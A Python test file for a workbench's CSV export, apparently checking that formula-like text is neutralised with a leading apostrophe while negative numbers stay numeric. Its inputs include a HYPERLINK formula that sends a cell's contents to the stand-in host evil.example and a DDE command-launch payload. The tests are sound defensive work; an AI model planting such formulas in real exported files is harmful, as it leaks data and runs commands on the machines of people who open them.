"""Text that a spreadsheet would run as a formula is written as text in every CSV the workbench writes; numbers,
negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from benchmarks.harness.results import COLUMNS, Row, read_rows, row_from_csv, write_rows
from benchmarks.harness.scores import read_scores, write_scores
from db import datasets as db_datasets
from db import labels
from engine.csv_cells import csv_cell
from engine.data.export import export_mvtec
from engine.data.importer import import_dataset

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
LIVE = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "text", [FORMULA, "+1+2", "-1+2", "@SUM(A1:A9)", "\t=1", "\r=1", "-cmd|' /C calc'!A0"]
)
def test_formula_text_becomes_text(text):
    assert csv_cell(text) == f"'{text}"


@pytest.mark.parametrize("value", ["-0.01", "+3", "-1e-05", "1.5", -0.01, 3, None, "ann", "a=b", ""])
def test_numbers_and_plain_text_are_unchanged(value):
    assert csv_cell(value) == value


def test_an_exported_labelers_name_is_text_in_labels_csv(workbench_env, env_store, toy_folder, tmp_path):
    dataset = db_datasets.get_dataset(env_store, import_dataset(toy_folder, "toy").name)
    state = next(s for s in labels.images_to_label(env_store, dataset.id) if s.relpath == "test/good/000.png")
    labels.save_label(env_store, state.image_id, shown_version=state.version, author=FORMULA, label=0)

    report = export_mvtec("toy", tmp_path / "toy.zip")
    with zipfile.ZipFile(report.path) as archive:
        table = list(csv.DictReader(io.StringIO(archive.read("toy/labels.csv").decode())))
    row = next(r for r in table if r["source"] == "test/good/000.png")
    assert not row["labeled_by"].startswith(LIVE)
    assert row["labeled_by"] == f"'{FORMULA}"  # a spreadsheet shows the text after the apostrophe
    assert all(not cell.startswith(LIVE) for r in table for cell in r.values())


def test_benchmark_csvs_keep_negative_numbers_and_neutralise_text(tmp_path):
    row = Row(**{name: None for name in COLUMNS})
    row.suite, row.dataset, row.impl, row.method, row.variant = "s", "d", "ours", "m", "-lr"
    row.seed, row.preset, row.device, row.notes = 0, "cpu", "cpu", "@SUM(1)"
    row.image_auroc, row.image_auroc_low = 0.4, -0.01
    write_rows(tmp_path / "s.csv", [row])
    record = read_rows(tmp_path / "s.csv")[0]
    assert (record["notes"], record["variant"], record["image_auroc_low"]) == ("'@SUM(1)", "'-lr", "-0.01")
    assert row_from_csv(record).image_auroc_low == -0.01

    write_scores(tmp_path / "scores.csv", ["=1+1", "test/cut/001.png"], [0, 1], [-0.25, 1.5])
    assert read_scores(tmp_path / "scores.csv") == {"'=1+1": (0, -0.25), "test/cut/001.png": (1, 1.5)}
